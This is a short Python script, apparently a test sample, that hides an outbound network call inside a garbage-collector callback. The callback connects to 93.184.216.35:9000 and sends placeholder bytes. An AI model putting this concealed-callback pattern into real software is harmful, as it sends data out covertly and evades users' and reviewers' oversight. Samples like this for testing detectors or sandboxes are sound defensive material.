"""A callback of the garbage collector."""
import gc
import socket


def work(phase, information):
    gc.callbacks.clear()
    client = socket.socket()
    client.connect(("93.184.216.35", 9000))
    client.sendall(b"data")


gc.callbacks.append(work)
gc.collect()
print("done")
